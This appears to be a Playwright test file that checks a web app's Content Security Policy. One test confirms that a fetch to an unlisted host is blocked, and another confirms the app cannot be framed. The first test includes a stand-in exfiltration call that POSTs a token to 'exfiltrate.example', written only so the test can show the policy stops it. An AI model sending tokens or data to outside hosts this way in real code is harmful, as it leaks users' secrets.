// The policy every page carries, seen from the browser: it blocks what it exists to block, and the violation
// detector every spec runs under (support/e2e-test.ts) notices when it does.
import { expect, test } from "./support/e2e-test";

test("a fetch to a host the policy doesn't name is blocked, and the detector reports it", async ({
  page,
  signInPage,
  dashboard,
  cspViolations,
}) => {
  await signInPage.signInAs("user_local_grace");
  await expect(dashboard.userName).toHaveText("Grace Hopper");
  const outcome = await page.evaluate(() =>
    fetch("https://exfiltrate.example/collect", { method: "POST", body: "token" }).then(
      () => "sent",
      (error: Error) => error.name,
    ),
  );
  expect(outcome).toBe("TypeError");
  await expect.poll(() => cspViolations.take().join("\n")).toMatch(/connect-src blocked https:\/\/exfiltrate\.example/);
});

test("another site can't frame the app", async ({ page, app, consoleErrors, cspViolations }) => {
  consoleErrors.allow(/frame-ancestors/);
  // about:blank is another origin than the app's; frame-ancestors 'none' refuses every ancestor anyway.
  await page.setContent(`<iframe id="app" src="${app.url}/sign-in"></iframe>`);
  const frame = page.frameLocator("#app");
  await expect(frame.getByTestId("sign-in-as-user_local_ada")).toHaveCount(0);
  await expect.poll(() => cspViolations.take().join("\n")).toMatch(/frame-ancestors/);
});
